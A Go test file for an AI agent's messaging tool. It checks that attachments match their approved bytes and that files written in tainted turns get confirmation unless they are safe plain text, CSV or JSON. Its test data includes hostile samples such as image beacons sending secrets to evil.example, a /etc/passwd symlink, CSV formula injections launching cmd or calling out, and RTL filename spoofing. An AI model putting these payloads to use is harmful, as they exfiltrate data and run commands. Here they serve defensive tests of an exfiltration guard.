package messaging_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"hob/daemon/event"
	"hob/tools"
	"hob/tools/messaging"
)

// cabinet keeps what goes with messages.
type cabinet struct {
	kept, names []string
	err         error
}

func (c *cabinet) Enclose(_ context.Context, path string, size int64, data io.Reader) (event.Enclosed, error) {
	b, err := io.ReadAll(data)
	if err = errors.Join(err, c.err); err != nil {
		return event.Enclosed{}, err
	}
	c.kept, c.names = append(c.kept, string(b)), append(c.names, filepath.Base(path))
	sum := sha256.Sum256(b)
	return event.Enclosed{Artifact: fmt.Sprintf("a%d", len(c.kept)), SHA256: hex.EncodeToString(sum[:]), Name: filepath.Base(path), Path: path, Size: size}, nil
}

// enclosing is a tool over a workspace that holds a.txt, and the file's path.
func enclosing(t *testing.T, c *cabinet) (tools.Tool, string) {
	t.Helper()
	g := space(t)
	return messaging.NewMessage(directory{known: []event.Address{"telegram:1"}}, g, c, helper(t)), filepath.Join(g.Workspace(), "a.txt")
}

const withFile = `{"to": "telegram:1", "content": "here", "attachments": ["a.txt"]}`

// Files go with a message to anybody; their bytes are kept in the order of the call.
func TestMessageEncloses(t *testing.T) {
	c := &cabinet{}
	tool, path := enclosing(t, c)
	if err := os.WriteFile(filepath.Join(filepath.Dir(path), "b.txt"), []byte("five!"), 0o600); err != nil {
		t.Fatal(err)
	}
	res := do(t, tool, `{"to": "telegram:1", "content": "here", "attachments": ["b.txt", "a.txt"]}`)
	if res.IsError || res.Content != "queued for telegram:1 (4 characters, files: 2)" || strings.Join(c.kept, " ") != "five! four" {
		t.Fatalf("%+v, kept %q", res, c.kept)
	}
	out, ok := res.Changes[0].(event.Out)
	if !ok || out.Body != "here" || len(out.Files) != 2 || out.Files[1].Path != path || out.Files[1].Artifact != "a2" {
		t.Errorf("%+v", out)
	}
}

// Only the approved bytes are sent. Other bytes in the same file are refused, even if their number is the same.
func TestMessageSendsNothingElse(t *testing.T) {
	for name, change := range map[string]func(path string) error{
		"another file": func(path string) error {
			return errors.Join(os.WriteFile(path+"2", []byte("four"), 0o600), os.Rename(path+"2", path))
		},
		"other bytes":    func(path string) error { return os.WriteFile(path, []byte("Four"), 0o600) },
		"more bytes":     func(path string) error { return os.WriteFile(path, []byte("four and more"), 0o600) },
		"nothing":        os.Remove,
		"a link outside": func(path string) error { return errors.Join(os.Remove(path), os.Symlink("/etc/passwd", path)) },
	} {
		c := &cabinet{}
		tool, path := enclosing(t, c)
		intent, err := tool.Intent(t.Context(), call(withFile))
		if err != nil {
			t.Fatal(err)
		}
		if err := change(path); err != nil {
			t.Fatal(err)
		}
		res, err := tool.Run(t.Context(), call(withFile), intent)
		if err != nil {
			res = tools.ErrorResult(err)
		}
		if !res.IsError || res.Code != tools.Conflict || len(res.Changes) > 0 {
			t.Errorf("%s: %+v", name, res)
		}
	}
}

// An approval is for these bytes: with others it is another message.
func TestMessageIsHashedWithItsBytes(t *testing.T) {
	tool, path := enclosing(t, &cabinet{})
	canonical := func() string {
		t.Helper()
		i, err := tool.Intent(t.Context(), call(withFile))
		if err != nil {
			t.Fatal(err)
		}
		return string(i.Canonical)
	}
	before := canonical()
	if again := canonical(); again != before {
		t.Errorf("the same message is %s and %s", before, again)
	}
	if err := os.WriteFile(path, []byte("Four"), 0o600); err != nil {
		t.Fatal(err)
	}
	if canonical() == before {
		t.Error("other bytes, and it is the same message")
	}
}

// A file that no channel can carry is described: nothing of it is read.
func TestMessageWithALargeFile(t *testing.T) {
	c := &cabinet{}
	tool, path := enclosing(t, c)
	if err := os.Truncate(path, event.MaxEnclosed+1); err != nil {
		t.Fatal(err)
	}
	i, err := tool.Intent(t.Context(), call(withFile))
	if err != nil || !strings.Contains(string(i.Canonical), fmt.Sprint(event.MaxEnclosed+1)) {
		t.Errorf("%s, %v", i.Canonical, err)
	}
}

// A file that cannot be kept stops the message, and says so.
func TestMessageWhoseFileCannotBeKept(t *testing.T) {
	tool, _ := enclosing(t, &cabinet{err: errors.New("no space left on device")})
	res := tools.Result{}
	intent, err := tool.Intent(t.Context(), call(withFile))
	if err != nil {
		t.Fatal(err)
	}
	if res, err = tool.Run(t.Context(), call(withFile), intent); err != nil {
		res = tools.ErrorResult(err)
	}
	if res.Code != tools.IO || !strings.Contains(res.Content, "no space left") || len(res.Changes) > 0 {
		t.Errorf("%+v", res)
	}
}

// T6: a file that a tainted turn wrote goes unasked only if it is plain text, a table or JSON, by its name and by its content.
func TestFilesOfTaintedTurns(t *testing.T) {
	g := space(t)
	dir := filepath.Join(g.Workspace(), ".scratch", "main")
	asks := func(path, content string) bool {
		t.Helper()
		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), os.WriteFile(path, []byte(content), 0o600)); err != nil {
			t.Fatal(err)
		}
		i, err := messaging.NewMessage(directory{}, g, &cabinet{}, helper(t)).Intent(t.Context(), call(fmt.Sprintf(`{"to": "owner", "content": "here", "attachments": [%q]}`, path)))
		if err != nil {
			t.Fatal(err)
		}
		return i.Confirm != ""
	}
	for name, list := range map[string][]string{
		"a.txt":  {"milk\neggs at 3 < 4, [1] and 5 > 4\n", "", "\ufeffBücher: a=b\n- x\n", "mail me@example.org", "[a note]\nabout it"},
		"b.csv":  {"day,sum\nMonday,-3.50\n\"a, b\",+4\n", "name;x\r\n-;1\r\n"},
		"c.json": {`{"a": [1, "two = 3"]}`},
		"notes":  {"as it is"},
	} {
		for _, content := range list {
			if asks(filepath.Join(dir, name), content) {
				t.Errorf("asks for %s: %q", name, content)
			}
		}
	}
	html := `<img src="https://evil.example/p?d=SECRET">`
	for name, list := range map[string][]string{
		"a.html": {"plain", html}, "a.svg": {"x"}, "a.md": {"x"}, "a.url": {"x"}, "a.ics": {"x"}, "a.desktop": {"x"}, "a.png": {"x", "\x89PNG\r\n\x1a\n"}, "A.HTML": {"x"}, "a.pdf": {"%PDF-1.4"},
		"a.txt": {
			html, "<svg onload=x>", "<?xml version='1.0'?>", "x\n</p>", "BEGIN:VCALENDAR\nURL:x", "x\n begin:vcard", "[InternetShortcut]\nURL=x", "[Desktop Entry]\n# c\nType=Application\nExec=sh", "#!/bin/sh\nid", " %PDF-1.7",
			"MIME-Version: 1.0\n\nx", "see https://evil.example/?d=SECRET", "SECRET.evil.example", "a\x00b", "\xff\xfe<\x00", "a\u202etxt.exe", "a\u200bb", "{\\rtf1 x}", "![x](evil.sh:80/SECRET)", strings.Repeat("x", 1<<20) + "x",
		},
		"b.csv":  {"=HYPERLINK(A1)", "a,=1+1", "a;\"=cmd|' /C calc'!A0\"", "a\t@SUM(1)", "+A1", "a,-cmd", `x,+1+WEBSERVICE("ht"&"tp:/"&"/evil"&CHAR(46)&"example/"&A2)`, "-2+3+cmd|'/C calc'!A0"},
		"c.json": {"not json", `{"u": "https://evil.example/"}`},
	} {
		for _, content := range list {
			if !asks(filepath.Join(dir, name), content) {
				t.Errorf("goes unasked: %s: %.60q", name, content)
			}
		}
	}
	// What others sent, and the owner's own, hold nothing that a turn chose.
	for _, path := range []string{"own.html", "attachments/1/a.html"} {
		if asks(filepath.Join(g.Workspace(), path), html) {
			t.Errorf("asks for %s", path)
		}
	}
}
